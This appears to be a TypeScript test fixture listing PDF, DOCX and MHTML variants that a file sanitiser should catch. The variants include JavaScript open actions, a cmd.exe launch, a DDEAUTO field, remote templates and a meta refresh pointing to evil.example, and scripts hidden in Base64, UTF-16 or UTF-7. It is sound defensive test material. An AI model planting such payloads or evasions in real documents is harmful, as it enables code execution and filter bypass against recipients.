import { archiveOf, partOf, quoted } from '../../unit/export/sample-archive';

const put = (into: string) => (pdf: string) => pdf.replace('/Type /Catalog', `/Type /Catalog ${into}`);

/** PDFs that run, start, carry or hide something, from one of ours. */
export const actingPdfs: [what: string, change: (pdf: string) => string][] = [
  ['runs at opening', put('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
  ['names its act in hexadecimal', put('/Open#41ction << /S /J#61vaScript >>')],
  ['acts on events', put('/AA << /O << /S /URI >> >>')],
  ['starts a program', put('/X << /S /Launch /F (cmd.exe) >>')],
  ['carries a file', put('/Names << /EmbeddedFiles 1 0 R >>')],
  ['sends a form', put('/AcroForm << /Fields [] >>')],
  [
    'has an update behind its end',
    (pdf) =>
      `${pdf}\n1 0 obj\n<< /Type /Catalog >>\nendobj\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< >>\nstartxref\n9\n%%EOF\n`,
  ],
  ['has bytes behind its end', (pdf) => `${pdf}<script>alert(1)</script>`],
  ['has a second table', (pdf) => pdf.replace('startxref', 'startxref\n5\n%%EOF\nstartxref')],
  [
    'holds an object that no table names',
    (pdf) => pdf.replace(/\nxref\n/, '\n9999 0 obj\n<< /Type /Catalog >>\nendobj\nxref\n'),
  ],
  ['hides objects in a stream', put('/X << /Type /ObjStm >>')],
  ['begins as something else', (pdf) => `<html>${pdf}`],
];

const inDocument = (xml: string) => (files: Map<string, Uint8Array>) => {
  const text = new TextDecoder().decode(files.get('word/document.xml'));
  files.set('word/document.xml', new TextEncoder().encode(text.replace('<w:p>', `${xml}<w:p>`)));
};

/** DOCX files that run, fetch or carry something, from the parts of one of ours. */
export const actingDocx: [what: string, edit: (files: Map<string, Uint8Array>) => void][] = [
  ['carries a macro', (files) => void files.set('word/vbaProject.bin', new Uint8Array([1]))],
  ['carries a file', (files) => void files.set('word/embeddings/oleObject1.bin', new Uint8Array([1]))],
  [
    'loads a template from elsewhere',
    (files) =>
      void files.set(
        'word/_rels/settings.xml.rels',
        new TextEncoder().encode(
          '<Relationships><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>',
        ),
      ),
  ],
  [
    'has a field that starts a program',
    inDocument('<w:p><w:r><w:instrText>DDEAUTO c:\\cmd.exe</w:instrText></w:r></w:p>'),
  ],
  [
    'has a field that fetches',
    inDocument('<w:p><w:fldSimple w:instr="INCLUDEPICTURE https://evil.example/a.png"/></w:p>'),
  ],
  ['brings in a foreign chunk', inDocument('<w:altChunk r:id="x"/>')],
  ['has entities of its own', inDocument('<!DOCTYPE x [<!ENTITY a "b">]>')],
];

const archived = (head: string, body: string) => archiveOf('<p>本文</p>', { after: [partOf(head, body)] });
const inBase64 = (text: string) => (btoa(text).match(/.{1,76}/g) ?? []).join('\r\n');
const inBase64Head = (type: string) => `Content-Type: ${type}\r\nContent-Transfer-Encoding: base64`;
const quotedHead = (type: string) => `Content-Type: ${type}\r\nContent-Transfer-Encoding: quoted-printable`;
const foreignHead = `${quotedHead('text/html')}\r\nContent-Location: https://x.com/other`;
const inUtf16 = (text: string) => `\xff\xfe${[...text].map((letter) => `${letter}\0`).join('')}`;
const acts = '<html><body><script>alert(1)</script></body></html>';

/** Archives (MHTML) in which a part acts, in every coding that a reader of such files takes. */
export const actingArchives: [what: string, archive: string][] = [
  ['a script, as it is', archived('Content-Type: text/html\r\nContent-Transfer-Encoding: 8bit', acts)],
  [
    'a script, quoted',
    archived(
      'Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable',
      acts.replaceAll('<', '=3C').replace('alert', 'al=\r\nert'),
    ),
  ],
  ['a script in Base64', archived('Content-Type: text/html\r\nContent-Transfer-Encoding: base64', inBase64(acts))],
  [
    'a script in Base64 whose head is written the other way round',
    archived('content-transfer-encoding: BASE64\r\ncontent-type: TEXT/HTML; charset=utf-8', inBase64(acts)),
  ],
  [
    'a drawing with a handler in Base64',
    archived(
      'Content-Type: image/svg+xml\r\nContent-Transfer-Encoding: base64',
      inBase64('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    ),
  ],
  [
    'a frame in Base64 that is called plain text',
    archived(
      'Content-Type: text/plain\r\nContent-Transfer-Encoding: base64',
      inBase64('<iframe src="https://evil.example/"></iframe>'),
    ),
  ],
  ['a script in UTF-16', archived(inBase64Head('text/html; charset=utf-16'), inBase64(inUtf16(acts)))],
  ['a script in UTF-16 that only its first bytes tell', archived(inBase64Head('text/html'), inBase64(inUtf16(acts)))],
  [
    'a script in UTF-7',
    archived(
      'Content-Type: text/html; charset=utf-7\r\nContent-Transfer-Encoding: quoted-printable',
      '+ADw-script+AD4-',
    ),
  ],
  ['a page that states UTF-7', archiveOf('').replace('charset=3DUTF-8', 'charset=3DUTF-7')],
  ['a link that numbers spell', archiveOf('<a href="java&#115;cript:alert(1)">x</a>')],
  ['a link with a line break in its scheme', archiveOf('<a href="java\nscript:alert(1)">x</a>')],
  ['a refresh that numbers spell', archiveOf('<meta http-equiv="&#114;efresh" content="0;url=https://evil.example/">')],
  ['a frame with a page of its own', archiveOf('<iframe srcdoc="x"></iframe>')],
  ['a sheet that makes a page of XML', archived(quotedHead('text/xml'), '<?xml-stylesheet href="a.xsl"?><a/>')],
  ['a program', archived(inBase64Head('application/octet-stream'), inBase64('MZ\x90\0program'))],
  ['a program that is called a picture', archived(inBase64Head('image/png'), inBase64('MZ\x90\0program'))],
  ['a script file', archived(quotedHead('application/javascript'), 'alert(1)')],
  ['a part with two codings', archived(`${quotedHead('text/css')}\r\nContent-Transfer-Encoding: base64`, 'YQ==')],
  ['a part that another boundary parts', archiveOf('').replace('\tboundary', '\tboundary="--other";\r\n\tboundary')],
  ['a beginning that names another part', archiveOf('').replace('\ttype=', '\tstart="<x>";\r\n\ttype=')],
  ['a part behind its end', `${archiveOf('')}<script>`],
  ['letters that are not quoted', archiveOf('').replace('<body>', '<body>本文')],
  ['a first page of another place', archiveOf('', { before: [partOf(foreignHead, quoted('<p>よい店です</p>'))] })],
];
